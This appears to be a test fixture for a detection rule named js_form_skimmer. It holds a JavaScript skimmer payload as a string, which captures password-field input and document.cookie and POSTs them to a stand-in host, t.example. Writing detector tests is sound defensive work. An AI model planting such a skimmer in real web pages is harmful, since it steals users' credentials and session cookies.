// ruleid: js_form_skimmer
const inj = `document.addEventListener('input', function (e) { if (e.target.type === 'password') {
  var x = new XMLHttpRequest(); x.open('POST', 'https://t.example/k'); x.send(e.target.value + document.cookie); } });`;
